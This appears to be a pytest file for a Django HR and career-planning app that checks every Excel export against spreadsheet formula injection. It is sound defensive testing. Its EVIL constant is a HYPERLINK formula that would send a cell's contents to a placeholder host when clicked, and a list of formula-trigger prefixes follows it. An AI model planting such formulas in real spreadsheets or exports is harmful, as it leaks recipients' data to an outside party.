"""Formula injection (issue #8 §5): no export writes text that a spreadsheet runs as a formula."""

from __future__ import annotations

import ast
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from karier.core.excel import formula_cells, safe_cell, safe_row
from karier.people.models import Pegawai
from karier.plans.documents import skp_xlsx
from karier.plans.models import RencanaHasilKerja
from tests.orgdata import Org
from tests.plans.test_plans_cascade import TAHUN, build_cascade

EVIL = '=HYPERLINK("https://contoh.invalid/curi?d="&A1,"Klik untuk detail")'
TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_inert(data: bytes, text: str) -> None:
    """No formula anywhere, and the dangerous text is still there for the reader, as text."""
    assert formula_cells(data) == []
    shown = [c for c in _cells(data) if isinstance(c.value, str) and text in c.value]
    assert shown, "the text must still be exported"
    for c in shown:
        assert c.data_type == "s" and c.value == "'" + text


def test_safe_cell_neutralises_text_and_keeps_numbers() -> None:
    for t in TRIGGERS:
        assert safe_cell(t) == "'" + t
    assert safe_cell("Data kurikulum") == "Data kurikulum"
    assert safe_cell("-") == "-"  # the empty-row placeholder computes nothing
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(Decimal("1.5")) == 1.5
    assert safe_cell(None) is None and safe_cell(True) is True
    assert safe_cell(dt.date(2026, 1, 2)) == dt.date(2026, 1, 2)
    assert safe_row(["=A1", 1]) == ["'=A1", 1]


@pytest.mark.django_db
def test_rhk_formula_is_text_in_the_skp_and_coverage_excel(org: Org) -> None:
    cas = build_cascade(org)
    RencanaHasilKerja.objects.filter(pk=cas.rhk["T2"].pk).update(teks=EVIL)
    _assert_inert(skp_xlsx(cas.skp["staf1a"].pk), EVIL)
    c = Client()
    c.force_login(org.users["admin"])
    response = c.get("/skp/cakupan/", {"tahun": TAHUN, "celah": "rhk-yatim", "export": "xlsx"})
    assert response.status_code == 200
    _assert_inert(response.content, EVIL)


@pytest.mark.django_db
def test_directory_export_neutralises_names(org: Org) -> None:
    Pegawai.objects.filter(pk=org.pegawai["staf1a"].pk).update(nama=EVIL)
    c = Client()
    c.force_login(org.users["admin"])
    response = c.get("/pegawai/", {"export": "xlsx"})
    assert response.status_code == 200 and response.content[:2] == b"PK"
    _assert_inert(response.content, EVIL)


def test_standards_export_neutralises_text() -> None:
    from karier.standards.exports import xlsx_response

    response = xlsx_response("uji", [("Lembar", ["Kode", "Nama", "Target"], [["K1", EVIL, Decimal("12.5")]])])
    _assert_inert(response.content, EVIL)
    assert [c.value for c in _cells(response.content) if c.data_type == "n"] == [12.5]


@pytest.mark.django_db
def test_recap_export_neutralises_names(org: Org) -> None:
    from karier.appraisal.evaluation import documents
    from tests.appraisal.test_appraisal_calibration_support import seksi

    s = seksi(org, extra=0)
    Pegawai.objects.filter(pk=org.pegawai["staf1a"].pk).update(nama=EVIL, gelar_depan="", gelar_belakang="")
    _assert_inert(documents.rekap_xlsx(documents.penetapan_document(s.unit, s.periode)), EVIL)


def test_every_excel_writer_goes_through_the_helper() -> None:
    """Each module that builds a workbook appends rows only through karier.core.excel: every
    `ws.append(…)` gets `safe_row(…)`, `cells(…)` (or goes through `append_row`), a list of `_cell(…)`,
    or a literal header of plain text."""
    root = Path(__file__).resolve().parents[2] / "karier"
    writers = [p for p in root.rglob("*.py") if re.search(r"\bWorkbook\(", p.read_text(encoding="utf-8"))]
    assert len(writers) >= 4
    for path in writers:
        text = path.read_text(encoding="utf-8")
        assert "karier.core.excel" in text, path
        for call in ast.walk(ast.parse(text)):
            if not (
                isinstance(call, ast.Call)
                and isinstance(call.func, ast.Attribute)
                and call.func.attr == "append"
                and isinstance(call.func.value, ast.Name)
                and call.func.value.id == "ws"
            ):
                continue
            (arg,) = call.args
            where = (path, call.lineno)
            if isinstance(arg, ast.Call):
                assert isinstance(arg.func, ast.Name) and arg.func.id in {"safe_row", "cells"}, where
                continue
            assert isinstance(arg, ast.List | ast.ListComp), where
            items = [arg.elt] if isinstance(arg, ast.ListComp) else arg.elts
            for item in items:
                plain_text = (
                    isinstance(item, ast.Constant)
                    and isinstance(item.value, str)
                    and item.value[:1] not in {"=", "+", "-", "@", "\t", "\r"}
                )
                notice = isinstance(item, ast.JoinedStr) and ast.unparse(item)[2:].startswith("Dibatasi")
                cell = isinstance(item, ast.Call) and isinstance(item.func, ast.Name) and item.func.id == "_cell"
                assert plain_text or notice or cell, (where, ast.unparse(item))
        assert ".value =" not in text and "ws.cell(" not in text, path
